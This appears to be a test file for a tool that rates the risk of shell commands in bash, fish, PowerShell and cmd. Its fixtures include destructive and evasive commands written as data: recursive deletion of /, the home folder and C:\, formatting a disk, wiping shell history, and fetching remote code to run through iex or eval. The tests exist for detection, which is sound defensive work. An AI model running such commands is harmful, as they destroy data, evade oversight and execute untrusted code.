import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { Risk, ShellKind } from "./types.js";

/**
 * Values the analysis follows to where they are used: a loop's literal list, the arguments of
 * `sh -c`, a download kept in a variable, and the line `cmd /c` runs; and writes that stop the
 * shell's history.
 */
const rated = shellRater();

describe("a loop over a literal list runs its body with each value", () => {
  it.each<[string, string]>([
    ["for d in ~ /; do rm -rf $d; done", "deletes /home/ada recursively"],
    ["for d in build ~; do rm -rf \"$d\"; done", "deletes /home/ada recursively"],
    ["for d in a /; do echo $d; done; rm -rf $d", "deletes / recursively"],
    ["for a in 1 2; do for d in ~ /tmp/x; do rm -rf $d; done; done", "deletes /home/ada recursively"],
  ])("%j is critical", (command, detail) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, string]>([
    ["for d in ~ /; rm -rf $d; end", "deletes /home/ada recursively"],
    ["for d in build /\n  if test -d $d; rm -rf $d; end\nend", "deletes / recursively"],
    ["for a in 1 2; for d in ~ /tmp/x; rm -rf $d; end; end", "deletes /home/ada recursively"],
  ])("fish: %j is critical", (command, detail) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    ["for d in build dist; rm -rf $d; end", "moderate"],
    ["for f in a.txt b.txt; cat $f; end; echo done", "safe"],
  ])("fish: %j is %s", (command, risk) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe(risk);
  });

  it.each<[string, Risk]>([
    ["for d in build dist; do rm -rf $d; done", "moderate"],
    ["for f in a.txt b.txt; do cat $f; done", "safe"],
    // Files a pattern matches are not known: the variable stays unknown.
    ["for f in *.log; do rm -rf \"$f\"; done", "high"],
  ])("%j is %s", (command, risk) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("PowerShell: a loop over a literal list runs its body with each value", () => {
  it.each<[string, string]>([
    ['foreach ($d in "~","C:\\") { Remove-Item -Recurse -Force $d }', "deletes /home/ada recursively"],
    ["foreach ($d in 'build', '/') { Remove-Item -Recurse -Force $d }", "deletes / recursively"],
    ['"~","C:\\" | ForEach-Object { Remove-Item -Recurse -Force $_ }', "deletes /home/ada recursively"],
    ["'build','C:\\' | % { Remove-Item -Recurse -Force $PSItem }", "deletes C:\\ recursively"],
    ['foreach ($d in "a","/") { Write-Output $d }; Remove-Item -Recurse -Force $d', "deletes / recursively"],
    ['foreach ($a in 1,2) { foreach ($d in "~","/tmp/x") { Remove-Item -Recurse -Force $d } }', "deletes /home/ada recursively"],
    ['foreach ($d in @("~", "/")) { Remove-Item -Recurse -Force $d }', "deletes / recursively"],
    ['@("build", "~") | % { Remove-Item -Recurse -Force $_ }', "deletes /home/ada recursively"],
    // A block may open on the next line, and a pipeline may go on after a `|` that ends a line.
    ["foreach ($d in 'C:\\', '~')\n{ Remove-Item -Recurse -Force $d }", "deletes /home/ada recursively"],
    ["foreach ($d in 'build', 'C:\\')\r\n\r\n{\r\n  Remove-Item -Recurse -Force $d\r\n}", "deletes C:\\ recursively"],
    ["'build', '~' |\n  ForEach-Object { Remove-Item -Recurse -Force $_ }", "deletes /home/ada recursively"],
  ])("%j is critical", (command, detail) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    ['foreach ($d in "build","dist") { Remove-Item -Recurse -Force $d }', "moderate"],
    ['"build","dist" | ForEach-Object { Remove-Item -Recurse -Force $_ }', "moderate"],
    ["1,2 | ForEach-Object { $_ * 2 }", "safe"],
    ["foreach ($d in 'build', 'dist')\n{ Remove-Item -Recurse -Force $d }", "moderate"],
    // A block after a statement that already has its own is a block of its own, not the loop's body.
    ["foreach ($d in 'build') { Write-Output $d }\n{ Remove-Item -Recurse -Force $d }", "moderate"],
    // A value only known at run time leaves the variable unknown, also one set before the loop.
    ["$d = 'x'; foreach ($d in $list) { Remove-Item -Recurse -Force $d }", "high"],
    ["foreach ($d in (Get-ChildItem)) { Remove-Item -Recurse -Force $d }", "high"],
    ["Get-ChildItem | ForEach-Object { Remove-Item -Recurse -Force $_ }", "high"],
  ])("%j is %s", (command, risk) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("PowerShell paths are read as its providers read them", () => {
  it.each<[string, string]>([
    // -Path (and a positional path) expands wildcards however it is quoted.
    ["Remove-Item -Recurse -Force '/home/ada/*'", "deletes /home/ada/* recursively"],
    ['Remove-Item -Recurse -Force -Path "/home/ada/*"', "deletes /home/ada/* recursively"],
    ["rm -r -fo 'C:\\Users\\ada\\*'", "deletes C:\\Users\\ada\\* recursively"],
    // A leading ~ is home even when quoted.
    ['Remove-Item -Recurse -Force "~"', "deletes /home/ada recursively"],
  ])("%j is critical", (command, detail) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    // -LiteralPath takes `*` as a file name.
    ["Remove-Item -Recurse -Force -LiteralPath '/home/ada/*'", "high"],
    ["Remove-Item -Recurse -Force -LiteralPath /home/ada/*", "high"],
    ["Remove-Item -Recurse -Force 'build/*'", "moderate"],
    ["Get-ChildItem -Path '*.log'", "safe"],
  ])("%j is %s", (command, risk) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("PowerShell's Copy-Item writes only its destination", () => {
  it.each<[string, Risk]>([
    ["Copy-Item C:\\Windows\\win.ini backup", "safe"],
    ["Copy-Item -Path /etc/hosts -Destination backup", "safe"],
    ["Copy-Item /etc/hosts", "safe"],
    ["Copy-Item -Destination C:\\Windows\\System32\\x.dll -Path evil.dll", "critical"],
    ["cp evil.conf /etc/", "critical"],
    ["Move-Item /etc/hosts backup", "high"],
  ])("%j is %s", (command, risk) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("sh -c reads its script with the positional parameters that follow it", () => {
  it.each<[ShellKind, string, string]>([
    ["bash", "sh -c 'rm -rf \"$1\"' _ ~", "deletes /home/ada recursively"],
    ["bash", "bash -c 'rm -rf $1' x ~", "deletes /home/ada recursively"],
    ["zsh", "bash -c 'rm -rf \"$@\"' x /", "deletes / recursively"],
    ["bash", "sh -c 'rm -rf \"$2\"' _ build ~", "deletes /home/ada recursively"],
    // A parameter not given is empty.
    ["bash", "sh -c 'rm -rf \"$1\"/' _", "deletes / recursively"],
    ["bash", "echo ~ | xargs sh -c 'rm -rf \"$1\"' _", "deletes /home/ada recursively"],
  ])("%s: %j is critical", (shell, command, detail) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    ["sh -c 'rm -rf \"$1\"' _ build", "moderate"],
    ["sh -c 'echo \"$0: $1\"' me hello", "safe"],
    ["sh -c 'rm -rf \"$1\"' _ \"$TARGET\"", "high"],
  ])("%j is %s", (command, risk) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("a child shell sees only the variables exported to it", () => {
  it.each<[ShellKind, string]>([
    ["bash", "export x=/; sh -c 'rm -rf $x'"],
    ["bash", "x=/ sh -c 'rm -rf $x'"],
    ["bash", "x=/; export x; bash -c 'rm -rf $x'"],
    ["bash", "export x; x=/; sh -c 'rm -rf $x'"],
    ["bash", "declare -x x=/; sh -c 'rm -rf $x'"],
    ["bash", "set -a; x=/; sh -c 'rm -rf $x'"],
    ["zsh", "setopt ALL_EXPORT; x=/; sh -c 'rm -rf $x'"],
    ["bash", "x=/ y=$x sh -c 'rm -rf $y'"],
    ["bash", "env x=/ sh -c 'rm -rf $x'"],
    ["bash", "sudo x=/ sh -c 'rm -rf $x'"],
    ["bash", "x=/ sh -c 'sh -c \"rm -rf \\$x\"'"],
    // The environment may already hold a name in capitals, and then the new value is exported.
    ["bash", "HOME_DIR=/; sh -c 'rm -rf $HOME_DIR'"],
    ["fish", "set -gx x /; sh -c 'rm -rf $x'"],
  ])("%s: %j is critical", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes / recursively");
  });

  it.each<[ShellKind, string, Risk]>([
    // A plain variable is not in the child's environment: `rm -rf` gets no operand.
    ["bash", "x=/; sh -c 'rm -rf $x'", "safe"],
    ["zsh", "x=/; bash -c 'rm -rf $x'", "safe"],
    ["bash", "x=/; echo 'rm -rf $x' | sh", "safe"],
    ["fish", "set x /; sh -c 'rm -rf $x'", "safe"],
    // What the script assigns itself is known there.
    ["bash", "x=/; sh -c 'x=build; rm -rf $x'", "moderate"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("sudo, env -i and su - start the child from an emptied environment", () => {
  it.each<string>([
    // -E, --preserve-env and --preserve-env=NAME,… keep what the shell exported.
    "export x=/; sudo -E sh -c 'rm -rf $x'",
    "export x=/; sudo -HE sh -c 'rm -rf $x'",
    "export x=/; sudo --preserve-env sh -c 'rm -rf $x'",
    "export x=/; sudo --preserve-env=y,x sh -c 'rm -rf $x'",
    "sudo x=/ sh -c 'rm -rf $x'",
    "sudo env x=/ sh -c 'rm -rf $x'",
    "env -i x=/ sh -c 'rm -rf $x'",
    "env --ignore-environment x=/ bash -c 'rm -rf $x'",
    "export x=/; env -u y sh -c 'rm -rf $x'",
    "export x=/; env -i x=$x sh -c 'rm -rf $x'",
    // `env -` is `env -i`, and what follows it still runs.
    "env - rm -rf /",
    "env - x=/ sh -c 'rm -rf $x'",
    // sudo passes TERM on, and its env_keep (a site's setting) may keep any all-capital name.
    "export TERM=/; sudo sh -c 'rm -rf $TERM'",
    "DIR=/; sudo sh -c 'rm -rf $DIR'",
    "env TERM=/ sudo sh -c 'rm -rf $TERM'",
    // su -c's shell sees what was exported; a login one (su -, -l) keeps TERM alone.
    "export x=/; su -c 'rm -rf $x'",
    "X=/; su -c 'rm -rf $X'",
    "export TERM=/; su - -c 'rm -rf $TERM'",
  ])("%j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes / recursively");
  });

  it.each<[string, Risk]>([
    // sudo resets the environment (env_reset): x does not reach the shell it starts.
    ["export x=/; sudo sh -c 'rm -rf $x'", "moderate"],
    // env -i empties what sudo would have passed on.
    ["export TERM=/; env -i sudo sh -c 'rm -rf $TERM'", "moderate"],
    // A variable not exported does not reach su's shell; a login one gets nothing but TERM.
    ["x=/; su -c 'rm -rf $x'", "moderate"],
    ["export x=/; su - -c 'rm -rf $x'", "moderate"],
    ["export x=/; su -l root -c 'rm -rf $x'", "moderate"],
    ["export x=/; sudo --preserve-env=y sh -c 'rm -rf $x'", "moderate"],
    ["export x=/; sudo -u ada sh -c 'rm -rf $x'", "moderate"],
    ["env x=/ sudo sh -c 'rm -rf $x'", "moderate"],
    // A variable never exported is not in the environment for -E to keep.
    ["x=/; sudo -E sh -c 'rm -rf $x'", "moderate"],
    ["export x=/; env -i sh -c 'rm -rf $x'", "safe"],
    ["export x=/; env - sh -c 'rm -rf $x'", "safe"],
    ["export x=/; env -u x sh -c 'rm -rf $x'", "safe"],
    ["export x=/; env --unset=x sh -c 'rm -rf $x'", "safe"],
    ["export x=/; env -ux sh -c 'rm -rf $x'", "safe"],
    ["x=/ env -i sh -c 'rm -rf $x'", "safe"],
    ["set -a; x=/; env -u x sh -c 'rm -rf $x'", "safe"],
    // The shell fills in what is written in double quotes before env or sudo runs.
    ["export x=/; env -i sh -c \"rm -rf $x\"", "critical"],
  ])("%j is %s", (command, risk) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("an empty path names no file", () => {
  it.each<[ShellKind, string, Risk]>([
    // rm reports that '' does not exist and deletes nothing.
    ["bash", 'rm -rf ""', "safe"],
    ["bash", "rm -rf ''", "safe"],
    ["bash", 'x=; rm -rf "$x"', "safe"],
    ["bash", "x=''; rm -rf \"$x\" build", "moderate"],
    ["fish", 'set x ""; rm -rf "$x"', "safe"],
    ["powershell", "Remove-Item -Recurse -Force ''", "safe"],
    // Not known to be empty: still a path only known at run time.
    ["bash", 'rm -rf "$x"', "high"],
    ["bash", 'x=$(pwd); rm -rf "$x"', "high"],
    // Empty before a slash is /.
    ["bash", 'x=; rm -rf "$x/"', "critical"],
    ["bash", 'rm -rf ""/', "critical"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });
});

describe("turning off or wiping the shell history", () => {
  it.each<[ShellKind, string, Risk]>([
    ["bash", "ln -sf /dev/null ~/.bash_history", "high"],
    ["bash", "> ~/.bash_history", "high"],
    ["bash", "cat /dev/null > ~/.zsh_history", "high"],
    ["bash", "rm ~/.zsh_history", "high"],
    ["bash", "rm -f ~/.local/share/fish/fish_history", "high"],
    ["bash", "unset HISTFILE", "moderate"],
    ["zsh", "export HISTFILE=/dev/null", "moderate"],
    ["bash", "HISTSIZE=0", "moderate"],
    ["bash", "set +o history", "moderate"],
    ["bash", "history -c", "moderate"],
    ["powershell", "Set-PSReadLineOption -HistorySaveStyle SaveNothing", "moderate"],
  ])("%s: %j is %s", (shell, command, risk) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe(risk);
  });

  it.each([
    "cat ~/.bash_history | grep docker",
    "history | tail -20",
    "export HISTSIZE=10000",
    "unset FOO; echo done",
    "set -o history",
  ])("%j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });

  it("an unset variable is empty where it is used", () => {
    const r = rated("x=build; unset x; rm -rf \"$x\"/");
    expect(r.risk, r.shown).toBe("critical");
  });
});

describe("a download kept in a variable and run later", () => {
  it.each<[ShellKind, string]>([
    ["powershell", "$s = iwr https://x.example/y.ps1; iex $s"],
    ["powershell", "$s = (iwr https://x.example/y.ps1).Content; Invoke-Expression $s"],
    ["powershell", "$s = (New-Object Net.WebClient).DownloadString('https://x.example'); iex $s"],
    ["powershell", "$s = irm https://x.example/y.ps1; $s | iex"],
    ["bash", "s=$(curl -s https://x.example/y); eval \"$s\""],
    ["bash", "s=$(curl -s https://x.example/y); bash -c \"$s\""],
  ])("%s: %j is critical", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => /downloads code and runs it/.test(d)), r.shown).toBe(true);
  });

  it.each<[ShellKind, string]>([
    ["powershell", "$s = irm https://x.example/y.json; $s.name"],
    ["powershell", "$s = iwr https://x.example/y.ps1; $s = 'Get-Date'; iex $s"],
    ["bash", "s=$(curl -s https://x.example/y.json); echo \"$s\" | jq ."],
  ])("%s: %j is not run as code", (shell, command) => {
    const r = rated(command, shell);
    expect(r.details.some((d) => /downloads code and runs it/.test(d)), r.shown).toBe(false);
  });
});

describe("the line cmd /c runs is analysed", () => {
  it.each<[ShellKind, string, string]>([
    ["powershell", "cmd /c rd /s /q C:\\", "deletes C:\\ recursively"],
    ["bash", "cmd.exe /c 'rd /s /q C:\\'", "deletes C:\\ recursively"],
    ["powershell", "cmd /c \"del /f /s /q %USERPROFILE%\"", "deletes /home/ada recursively"],
    ["bash", "cmd.exe /C \"del /f /s /q %USERPROFILE%\"", "deletes /home/ada recursively"],
    ["powershell", "cmd.exe /k \"echo hi & rd /s /q %SystemRoot%\"", "deletes C:\\Windows recursively"],
    ["powershell", "cmd /c \"cmd /c rd /s /q C:\\\"", "deletes C:\\ recursively"],
    ["powershell", "cmd /c \"format C: /q\"", "erases a disk or volume"],
    // set NAME=VALUE, then %NAME% or !NAME! (delayed expansion).
    ["powershell", "cmd /c \"set d=C:\\ && rd /s /q %d%\"", "deletes C:\\ recursively"],
    ["bash", "cmd /c 'set \"d=C:\\\" & rd /s /q \"%d%\"'", "deletes C:\\ recursively"],
    ["powershell", "cmd /v:on /c \"set d=%USERPROFILE% && rd /s /q !d!\"", "deletes /home/ada recursively"],
    // for %d in (…) do … runs the command once per value.
    ["powershell", "cmd /c \"for %d in (build C:\\) do rd /s /q %d\"", "deletes C:\\ recursively"],
    ["bash", "cmd /c 'for %%d in (C:\\ D:\\) do rd /s /q %%d'", "deletes C:\\ recursively"],
    ["powershell", "cmd /c \"for /d %d in (build,%USERPROFILE%) do @rd /s /q \"%d\"\"", "deletes /home/ada recursively"],
    // if … runs its command, also inside ( … ) and after else.
    ["powershell", "cmd /c \"for /r C:\\ %f in (*) do del /q %f\"", "deletes C:\\*"],
    ["powershell", "cmd /c \"if exist C:\\ (rd /s /q C:\\)\"", "deletes C:\\ recursively"],
    ["powershell", "cmd /c \"if exist C:\\ (echo bye & rd /s /q C:\\)\"", "deletes C:\\ recursively"],
    ["bash", "cmd /c 'for %d in (build \"C:\\Program Files\") do rd /s /q %d'", "deletes C:\\Program Files recursively"],
    ["bash", "cmd /c 'for /r \"C:\\Program Files\" %f in (*) do del /q %f'", "deletes C:\\Program Files\\*"],
    ["powershell", "cmd /c \"if not exist build (echo none) else (rd /s /q %SystemRoot%)\"", "deletes C:\\Windows recursively"],
    ["powershell", "cmd /c \"if /i \"%x%\"==\"y\" rd /s /q C:\\\"", "deletes C:\\ recursively"],
  ])("%s: %j is critical", (shell, command, detail) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain(detail);
  });

  it.each<[string, Risk]>([
    ["cmd /c dir", "safe"],
    ["cmd /c \"echo hi & dir /b\"", "safe"],
    ["cmd /c \"mkdir build && copy a.txt build\"", "safe"],
    ["cmd /c \"npm install 2>&1\"", "safe"],
    ["cmd /c \"rd /s /q build\"", "moderate"],
    // A variable wren cannot know stays unknown.
    ["cmd /c \"del /s /q %FOO%\"", "high"],
    ["cmd /c \"set d=build && rd /s /q %d%\"", "moderate"],
    ["cmd /c \"for %d in (a b) do echo %d\"", "safe"],
    ["cmd /c \"if exist build (echo yes) else (echo no)\"", "safe"],
    // What the reader cannot follow is unknown, never harmless.
    ["cmd /c \"for /f %d in ('dir /b') do rd /s /q %d\"", "high"],
    ["cmd /c \"for /r C:\\ %f in (*.log) do del %f\"", "moderate"],
    ["cmd /c \"for /r %f in (*) do del %f\"", "high"],
    ["cmd /c \"set /p d=Folder? && rd /s /q %d%\"", "high"],
    ["cmd /v:on /c \"rd /s /q !d!\"", "high"],
  ])("powershell: %j is %s", (command, risk) => {
    const r = rated(command, "powershell");
    expect(r.risk, r.shown).toBe(risk);
  });
});
